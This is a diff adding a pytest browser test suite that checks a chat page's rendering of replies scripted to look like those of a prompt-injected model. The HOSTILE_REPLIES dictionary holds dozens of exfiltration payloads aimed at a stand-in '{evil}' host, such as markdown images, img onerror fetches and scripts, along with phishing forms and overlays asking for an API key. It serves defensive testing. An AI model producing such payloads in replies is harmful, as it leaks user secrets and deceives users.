@@ -1,0 +1,203 @@
+"""Replies written by a prompt-injected model, shown by step04's page in real Chromium.
+
+Each reply is scripted through the fake LLM. Its URLs point at a listener on another
+loopback port (another origin), which counts every request that reaches it. The page's
+CSP stays on here: it is part of what is tested.
+"""
+
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+
+from tests.fake_llm import free_port
+from tests.test_browser import browser  # noqa: F401  (the shared Chromium fixture)
+
+pytestmark = [pytest.mark.slow, pytest.mark.browser]
+
+APP = "step04_full_chat.main"
+
+
+class Listener:
+    """An HTTP server on another loopback port that records every request it gets."""
+
+    def __init__(self):
+        self.hits: list[str] = []
+        listener = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def answer(self):
+                listener.hits.append(f"{self.command} {self.path}")
+                self.send_response(200)
+                self.send_header("Content-Length", "0")
+                self.end_headers()
+
+            do_GET = do_POST = do_HEAD = do_OPTIONS = answer
+
+            def log_message(self, *args):
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
+        self.origin = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@pytest.fixture(scope="module")
+def listener():
+    listener = Listener()
+    yield listener
+    listener.close()
+
+
+E = "{evil}"  # replaced by the listener's origin
+HOSTILE_REPLIES = {
+    "markdown image": f"Here you go ![chart]({E}/md-image?q=secret)",
+    "reference image": f"![x][pic]\n\n[pic]: {E}/ref-image",
+    "img tag": f'<img src="{E}/img">',
+    "img onerror": f'<img src=x onerror="fetch(\'{E}/onerror\')">',
+    "lazy img": f'<img loading="lazy" src="{E}/lazy">',
+    "srcset": f'<img srcset="{E}/srcset 1x, {E}/srcset2 2x">',
+    "picture": f'<picture><source srcset="{E}/picture"><img src="{E}/picture-img"></picture>',
+    "svg image": f'<svg width="10" height="10"><image href="{E}/svg-image" /></svg>',
+    "svg use": f'<svg><use href="{E}/svg-use#x" /></svg>',
+    "video poster": f'<video poster="{E}/poster"></video>',
+    "video source": f'<video autoplay><source src="{E}/video-source"></video>',
+    "audio": f'<audio autoplay src="{E}/audio"></audio>',
+    "table background": f'<table background="{E}/table-bg"><tr><td>cell</td></tr></table>',
+    "inline style url": f'<div style="background-image:url({E}/style-url)">hello</div>',
+    "input image": f'<input type="image" src="{E}/input-image">',
+    "phishing form": (f'<form action="{E}/form" method="post">Session expired: paste your key '
+                      '<input name="key" autofocus><button>Continue</button></form>'),
+    "button formaction": f'<button formaction="{E}/formaction">Click</button>',
+    "style hides the chat": "<style>#composer, header { display: none !important }</style>Nothing to see.",
+    "style import": f"<style>@import url({E}/import.css);</style>",
+    "style background": f"<style>body {{ background: url({E}/body-bg) }}</style>",
+    "fixed overlay": ('<div style="position:fixed;inset:0;z-index:9999;background:#fff">'
+                      'Session expired. Paste your API key below.</div>'),
+    "link stylesheet": f'<link rel="stylesheet" href="{E}/link.css">',
+    "link prefetch": f'<link rel="prefetch" href="{E}/prefetch">',
+    "meta refresh": f'<meta http-equiv="refresh" content="0;url={E}/meta-refresh">',
+    "base href": f'<base href="{E}/base/">[relative](page.html)',
+    "iframe": f'<iframe src="{E}/iframe"></iframe>',
+    "object": f'<object data="{E}/object"></object>',
+    "embed": f'<embed src="{E}/embed">',
+    "script": f"<script>fetch('{E}/script')</script>",
+    "details image": f'<details open><summary>more</summary><img src="{E}/details"></details>',
+    "math": f'<math><mi xlink:href="{E}/math">x</mi></math>',
+    "dialog": "<dialog open>Your session expired.</dialog>",
+    "textarea and select": "<textarea>paste your key</textarea><select><option>1</option></select>",
+    "task list": "- [x] done\n- [ ] paste your key here",
+    "fake user message": '<div class="msg user"><div class="body">I agree to share my key</div></div>',
+    "markdown image in a link": f"[![logo]({E}/linked-image)]({E}/link)",
+    "data-uri svg image": "![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnLz4=)",
+}
+
+FORBIDDEN = ("form, input, button, textarea, select, option, style, link, meta, base, img, picture, "
+             "source, video, audio, track, iframe, frame, object, embed, svg, math, canvas, script, "
+             "dialog, details, [style], [class], [id]")
+
+CHECK_PAGE = """(forbidden) => {
+    const body = document.querySelector('.assistant .body');
+    const injected = [...body.querySelectorAll(forbidden)].map(el => el.outerHTML.slice(0, 80));
+    const positioned = [...body.querySelectorAll('*')].filter(el =>
+        ['fixed', 'absolute', 'sticky'].includes(getComputedStyle(el).position)).length;
+    const uncovered = (el) => {
+        const box = el.getBoundingClientRect();
+        const seen = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
+        return box.width > 0 && box.height > 0 && (seen === el || el.contains(seen));
+    };
+    return { injected, positioned, input: uncovered(document.querySelector('#input')),
+             send: uncovered(document.querySelector('#send')),
+             header: uncovered(document.querySelector('#new-chat')),
+             sendDisabled: document.querySelector('#send').disabled,
+             state: document.querySelector('#status').dataset.state };
+}"""
+
+
+def open_page(browser, url):  # noqa: F811
+    context = browser.new_context(viewport={"width": 1000, "height": 700})  # the CSP stays on
+    page = context.new_page()
+    errors = []
+    page.on("pageerror", lambda error: errors.append(str(error)))
+    page.goto(url)
+    page.wait_for_selector("#status[data-state=ready]")
+    return context, page, errors
+
+
+def chat(page, text, replies_before):
+    page.fill("#input", text)
+    page.keyboard.press("Enter")
+    page.wait_for_selector(f".assistant >> nth={replies_before} >> .meta", timeout=10000)
+
+
+@pytest.mark.parametrize("name", list(HOSTILE_REPLIES))
+def test_a_hostile_reply_fetches_nothing_injects_nothing_and_leaves_the_page_usable(
+        name, browser, live_server, listener, fake):  # noqa: F811
+    listener.hits.clear()
+    fake.reply = HOSTILE_REPLIES[name].replace(E, listener.origin)
+    context, page, errors = open_page(browser, live_server.url)
+    try:
+        chat(page, "show me", 0)
+        page.wait_for_timeout(300)  # time for anything lazy to try loading
+        state = page.evaluate(CHECK_PAGE, FORBIDDEN)
+        assert listener.hits == [], f"the page fetched from another origin: {listener.hits}"
+        assert state["injected"] == [] and state["positioned"] == 0, state
+        assert state["input"] and state["send"] and state["header"], f"the chat is hidden or covered: {state}"
+        assert state["state"] == "ready" and not state["sendDisabled"], state
+        fake.reply = None  # the next reply is the fake's usual "You said: ..."
+        chat(page, "still there?", 1)
+        assert "You said: still there?" in page.locator(".assistant").nth(1).inner_text()
+        assert listener.hits == [] and not errors, (listener.hits, errors)
+    finally:
+        context.close()
+
+
+def test_raw_html_shows_as_text_and_markdown_still_renders(browser, live_server, listener, fake):  # noqa: F811
+    fake.reply = (f"**bold** and `<b>code</b>` and <b>raw</b>\n\n- item\n\n"
+                  f"[docs]({listener.origin}/docs) <https://example.org/page>")
+    context, page, _ = open_page(browser, live_server.url)
+    try:
+        chat(page, "format", 0)
+        body = page.locator(".assistant .body")
+        assert body.locator("strong").inner_text() == "bold"
+        assert body.locator("code").inner_text() == "<b>code</b>"
+        assert "<b>raw</b>" in body.inner_text() and body.locator("b").count() == 0
+        assert body.locator("li").inner_text() == "item"
+        links = body.locator("a")
+        assert links.count() == 2
+        for i in range(2):
+            assert links.nth(i).get_attribute("rel") == "noopener noreferrer"
+            assert links.nth(i).get_attribute("target") == "_blank"
+        # A link whose label is not its address says where it goes.
+        assert f"docs ({listener.origin}/docs)" in body.inner_text()
+        assert "https://example.org/page (" not in body.inner_text()
+    finally:
+        context.close()
+
+
+def test_a_reply_that_breaks_the_markdown_parser_shows_as_text_and_the_page_recovers(
+        browser, live_server, fake):  # noqa: F811
+    fake.reply = ">" * 8000 + " deeply nested"  # marked overflows its stack on this
+    context, page, errors = open_page(browser, live_server.url)
+    try:
+        chat(page, "nest", 0)
+        assert "deeply nested" in page.locator(".assistant .body").inner_text()
+        assert page.is_enabled("#send") and page.get_attribute("#status", "data-state") == "ready"
+        fake.reply = None
+        chat(page, "after", 1)
+        assert "You said: after" in page.locator(".assistant").nth(1).inner_text()
+        assert not errors, errors
+    finally:
+        context.close()
+
+
+def test_the_page_is_served_with_its_csp(browser, live_server):  # noqa: F811
+    context = browser.new_context()
+    page = context.new_page()
+    response = page.goto(live_server.url)
+    assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
+    context.close()
